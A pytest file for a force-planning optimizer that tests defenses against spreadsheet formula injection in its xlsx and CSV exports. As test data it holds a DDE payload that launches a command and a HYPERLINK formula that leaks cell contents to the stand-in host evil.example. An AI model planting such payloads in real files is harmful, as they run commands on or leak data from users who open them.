"""Outputs that cannot hurt (issue 7, part 3).

No exported cell may become a formula.  A workbook whose names are the
classic injection payloads is solved through the real command line, and
every xlsx forceplan writes is checked twice: with openpyxl, and by unzipping
its XML parts (no ``<f>`` element anywhere; every text cell that looks like a
formula is a string cell with the ``quotePrefix`` style).  The input
workbooks the app writes must also read back to the same values through
:func:`optimizer.reader.read_tables`.  forceplan writes no CSV; a guard
keeps it that way unless the CSV writer goes through ``safe_cells.csv_text``.
The decisions per export path are in :mod:`optimizer.outputs.safe_cells`.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from optimizer.cells import parse_cell
from optimizer.outputs import write_plan_xlsx
from optimizer.outputs.safe_cells import FORMULA_TRIGGERS, clean_text, csv_text, looks_like_formula
from optimizer.pipeline import plan_workbook
from optimizer.reader import read_tables
from optimizer.schema import NATIONS
from optimizer.workbench.inputs import Inputs, workbook_bytes
from optimizer.workbench.store import ScenarioStore
from optimizer.workbook_writer import write_workbook
from tests.conftest import ROOT, run_cli

PAYLOADS = ("=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "\tx", "\x00x", '=HYPERLINK("http://x")')
NATION_NAMES = ("=1+1", "+cmd|' /C calc'!A0", "-2", "\tx")
UNIT_TYPE_NAMES = ("@SUM(A1)", '=HYPERLINK("http://x")')
SECTOR_NAMES = ("\x00x", "-2")
NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z_][\w.-]*:)?f[\s>/]")


def evil_tables() -> tuple[dict, dict]:
    """A small valid workbook's scenario and tables, every name an injection payload."""
    nations = [{"nation": n, "status": "committed", "active_personnel": 100_000, "gdp_busd": 100, "can_lead": True}
               for n in NATION_NAMES]
    unit_types = [{"unit_type": UNIT_TYPE_NAMES[0], "domain": "land", "personnel": 500, "annual_cost_musd": 10},
                  {"unit_type": UNIT_TYPE_NAMES[1], "domain": "land", "personnel": 200, "annual_cost_musd": 5}]
    sectors = [{"sector": SECTOR_NAMES[0], "risk": 1, "needs_lead": True}, {"sector": SECTOR_NAMES[1], "risk": 2}]
    pledges = [{"nation": n, "unit_type": u, "max_units": 2} for n in NATION_NAMES for u in UNIT_TYPE_NAMES]
    requirements = [{"unit_type": u, "sector": s, "min_units": 1} for u in UNIT_TYPE_NAMES for s in SECTOR_NAMES]
    caveats = [{"nation": "-2", "sector": SECTOR_NAMES[0], "unit_type": None, "note": NOTE}]
    scenario = {"name": "=1+1", "force_target": 1000}
    return scenario, {"Nations": nations, "UnitTypes": unit_types, "Sectors": sectors, "Pledges": pledges,
                      "Requirements": requirements, "Caveats": caveats}


# --------------------------------------------------------------------------- inspecting an xlsx


def formula_parts(data: bytes) -> list[str]:
    """The XML parts of an xlsx holding a formula element ``<f>`` (data validations' ``<formula1>`` are not cells)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [name for name in z.namelist() if name.endswith(".xml") and FORMULA_ELEMENT.search(z.read(name))]


def raw_text_cells(data: bytes) -> list[tuple[str, str, str, str, bool]]:
    """Every text cell as stored in the sheet XML: (sheet part, ref, t attribute, text, quotePrefix of its style)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = ElementTree.fromstring(z.read("xl/styles.xml"))
        xfs = styles.find(f"{MAIN_NS}cellXfs")
        quoted = [xf.get("quotePrefix") in ("1", "true") for xf in xfs.findall(f"{MAIN_NS}xf")]
        shared: list[str] = []
        if "xl/sharedStrings.xml" in z.namelist():
            sst = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{MAIN_NS}t")) for si in sst.findall(f"{MAIN_NS}si")]
        cells = []
        for part in sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet")):
            for c in ElementTree.fromstring(z.read(part)).iter(f"{MAIN_NS}c"):
                kind = c.get("t")
                if kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(f"{MAIN_NS}t"))
                elif kind == "s":
                    text = shared[int(c.find(f"{MAIN_NS}v").text)]
                elif kind == "str":  # the cached string result of a formula: must not exist
                    text = c.findtext(f"{MAIN_NS}v") or ""
                else:
                    continue
                cells.append((part, c.get("r"), kind, text, quoted[int(c.get("s", "0"))]))
        return cells


def assert_cannot_hurt(data: bytes) -> list[tuple]:
    """No formula anywhere, in the XML or through openpyxl; formula-like text quoted.  Returns the text cells."""
    assert formula_parts(data) == []
    cells = raw_text_cells(data)
    for part, ref, kind, text, quoted in cells:
        assert kind in ("inlineStr", "s"), (part, ref, kind, text)
        if looks_like_formula(text):
            assert quoted, f"{part} {ref}: {text!r} looks like a formula but has no quotePrefix"
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    return cells


def sheet_column(data: bytes, sheet: str, column: str) -> list:
    ws = openpyxl.load_workbook(io.BytesIO(data), read_only=True)[sheet]
    rows = list(ws.iter_rows(values_only=True))
    index = list(rows[0]).index(column)
    return [r[index] for r in rows[1:]]


# --------------------------------------------------------------------------- the helper itself


@pytest.mark.parametrize("text", PAYLOADS + (" =1+1", "\r=1", "\n@x"))
def test_every_payload_is_recognised_and_neutralised_for_csv(text):
    cleaned = clean_text(text)
    assert "\x00" not in cleaned
    if text != "\x00x":
        assert looks_like_formula(text)
        assert csv_text(text) == "'" + cleaned
    assert not csv_text(text).lstrip(" ").startswith(FORMULA_TRIGGERS)


def test_plain_values_pass_unchanged():
    for value, shown in (("France", "France"), ("Sector 1 - North", "Sector 1 - North"), (-2, "-2"), (1.5, "1.5"), (None, "")):
        assert csv_text(value) == shown
        if isinstance(value, str):
            assert not looks_like_formula(value)


# --------------------------------------------------------------------------- plan.xlsx


@pytest.fixture(scope="module")
def evil_workbook(tmp_path_factory) -> Path:
    scenario, tables = evil_tables()
    path = tmp_path_factory.mktemp("evil") / "evil.xlsx"
    write_workbook(path, scenario, tables)
    return path


def test_a_workbook_of_injection_names_is_solved_and_plan_xlsx_holds_no_formula(evil_workbook, tmp_path):
    out = tmp_path / "out"
    result = run_cli("solve", evil_workbook, "--out", out, "--quiet")
    assert result.returncode == 0, result.stderr
    plan = json.loads((out / "plan.json").read_text(encoding="utf-8"))
    nations = [n["nation"] for n in plan["nations"]]
    # plan.json keeps the names exactly (the reader trims surrounding whitespace, as for any name)
    assert sorted(nations) == sorted(parse_cell(NATIONS.column("nation"), n)[0] for n in NATION_NAMES)
    assert plan["scenario"]["name"] == "=1+1" and plan["allocations"], "the plan should place units"

    data = (out / "plan.xlsx").read_bytes()
    cells = assert_cannot_hurt(data)
    texts = {c[3] for c in cells}
    for name in ("=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", '=HYPERLINK("http://x")'):
        assert name in texts, f"{name!r} should be in plan.xlsx, as text"
    assert sheet_column(data, "Nations", "nation") == nations  # the same names as plan.json, unaltered
    assert sorted(set(sheet_column(data, "Allocation", "unit_type"))) == sorted({a["unit_type"] for a in plan["allocations"]})
    summary = dict(openpyxl.load_workbook(io.BytesIO(data), read_only=True)["Summary"].iter_rows(values_only=True))
    assert summary["Scenario"] == "=1+1"


def test_plan_xlsx_survives_control_characters(evil_workbook, tmp_path):
    """Names no xlsx can hold (NUL, other C0 controls) are dropped, not a crash or a corrupt file;
    a tab first is kept, quoted."""
    plan = plan_workbook(evil_workbook)

    def rename(frame, column, old, new):
        if frame is None or column not in frame.columns:
            return frame
        frame = frame.copy()
        frame[column] = frame[column].replace({old: new})
        return frame

    frames = {}
    for field in ("allocations", "requirements", "nations", "leads", "sectors", "pledges"):
        frame = rename(getattr(plan, field), "nation", "x", "\tx")
        frames[field] = rename(frame, "sector", "x", "\x00x")
    evil = dataclasses.replace(plan, scenario={**plan.scenario, "name": "\x00=cmd\x01|calc"}, **frames)
    assert "\tx" in set(evil.nations["nation"]) and "\x00x" in set(evil.requirements["sector"])
    write_plan_xlsx(evil, tmp_path / "plan.xlsx")
    data = (tmp_path / "plan.xlsx").read_bytes()
    assert_cannot_hurt(data)
    book = openpyxl.load_workbook(io.BytesIO(data))  # docProps/core.xml is well-formed too
    assert book.properties.title == "forceplan plan: =cmd|calc"
    assert "\tx" in sheet_column(data, "Nations", "nation")
    assert set(sheet_column(data, "Requirements", "sector")) == {"x", "-2"}
    summary = dict(openpyxl.load_workbook(io.BytesIO(data), read_only=True)["Summary"].iter_rows(values_only=True))
    assert summary["Scenario"] == "=cmd|calc"


# --------------------------------------------------------------------------- input workbooks


def test_the_template_holds_no_formula(tmp_path):
    result = run_cli("template", tmp_path / "template.xlsx")
    assert result.returncode == 0, result.stderr
    cells = assert_cannot_hurt((tmp_path / "template.xlsx").read_bytes())
    assert {"force_target", "nation", "unit_type", "sector"} <= {c[3] for c in cells}  # it was read, not skipped


# Every payload a nation but "\x00x", which is a sector: "\tx" and "\x00x" both read back as "x".
APP_NATIONS = tuple(p for p in PAYLOADS if p != "\x00x")


def evil_inputs() -> Inputs:
    scenario, tables = evil_tables()
    nations = [dict(tables["Nations"][0], nation=n) for n in APP_NATIONS]
    return Inputs(scenario | {"classification": "@SUM(A1)"}, {**tables, "Nations": nations})


def expected_read_back(value):
    """What read_tables makes of a text the app holds: the reader's own trimming, after the one
    change writing makes (characters an xlsx cannot hold dropped)."""
    return parse_cell(NATIONS.column("nation"), clean_text(value))[0]


def test_the_apps_exported_workbook_holds_no_formula_and_reads_back_the_same(tmp_path):
    inputs = evil_inputs()
    data = workbook_bytes(inputs, note=NOTE)
    assert_cannot_hurt(data)

    # openpyxl sees the very text the app held (NUL dropped): nothing added, nothing removed
    assert sheet_column(data, "Nations", "nation") == list(APP_NATIONS)
    assert sheet_column(data, "Sectors", "sector") == [clean_text(s) for s in SECTOR_NAMES]
    assert sheet_column(data, "Caveats", "note") == [NOTE]

    # and forceplan's reader gets what it would get from the same text typed into Excel
    path = tmp_path / "inputs.xlsx"
    path.write_bytes(data)
    raw = read_tables(path)
    assert raw.tables["Nations"]["nation"].tolist() == [expected_read_back(n) for n in APP_NATIONS]
    assert raw.tables["UnitTypes"]["unit_type"].tolist() == list(UNIT_TYPE_NAMES)
    assert raw.tables["Sectors"]["sector"].tolist() == [expected_read_back(s) for s in SECTOR_NAMES]
    assert raw.tables["Pledges"]["nation"].tolist() == [expected_read_back(r["nation"]) for r in inputs.rows("Pledges")]
    assert raw.tables["Requirements"]["unit_type"].tolist() == [r["unit_type"] for r in inputs.rows("Requirements")]
    assert raw.tables["Caveats"]["note"].tolist() == [NOTE]
    assert raw.scenario["name"] == "=1+1" and raw.scenario["classification"] == "@SUM(A1)"
    assert [expected_read_back(n) for n in APP_NATIONS] == ["=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "x", '=HYPERLINK("http://x")']


def test_a_saved_scenarios_workbook_holds_no_formula(tmp_path):
    store = ScenarioStore(tmp_path / "models")
    store.save("evil", evil_inputs(), note=NOTE)
    data = (tmp_path / "models" / "evil" / "workbook.xlsx").read_bytes()
    assert_cannot_hurt(data)
    assert sheet_column(data, "Nations", "nation") == list(APP_NATIONS)
    loaded = store.load("evil").inputs  # inputs.json keeps every name exactly, NUL included
    assert loaded.tables["Nations"]["nation"].tolist() == list(APP_NATIONS)
    assert loaded.tables["Sectors"]["sector"].tolist() == list(SECTOR_NAMES)


# --------------------------------------------------------------------------- csv


CSV_WRITERS = re.compile(r"\.to_csv\(|\bcsv\.(?:writer|DictWriter)\(|text/csv")


def test_forceplan_writes_csv_only_through_csv_text():
    """forceplan writes no CSV today.  A module that starts to must neutralise with safe_cells.csv_text."""
    offenders = []
    for path in [ROOT / "app.py", *(ROOT / "app_pages").glob("*.py"), *(ROOT / "optimizer").rglob("*.py")]:
        text = path.read_text(encoding="utf-8")
        if CSV_WRITERS.search(text) and "csv_text" not in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_csv_text_round_trips_through_a_csv_reader():
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_text(p) for p in PAYLOADS])
    fields = next(csv.reader(io.StringIO(buf.getvalue())))
    assert fields == ["'" + clean_text(p) if looks_like_formula(clean_text(p)) else clean_text(p) for p in PAYLOADS]
    assert not any(f.startswith(FORMULA_TRIGGERS) for f in fields)


def test_every_workbook_writer_uses_safe_cells():
    """Every product module that builds an openpyxl Workbook puts its cells through safe_cells
    (devtools/generators.py, outside the product, writes generated names only, for tests and benchmarks)."""
    missing = []
    for path in (ROOT / "optimizer").rglob("*.py"):
        rel = str(path.relative_to(ROOT))
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(\)", text) and "safe_cells" not in text:
            missing.append(rel)
    assert missing == []


def test_the_apps_own_csv_export_is_switched_off():
    """Streamlit's table toolbar "Download as CSV" writes cells unneutralised (see
    optimizer/outputs/safe_cells.py), so the app's configuration switches it off, with an
    option the installed Streamlit really has (an unknown option would be ignored)."""
    import tomllib

    from streamlit import config as st_config

    from tests.conftest import ROOT

    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in st_config._config_options_template
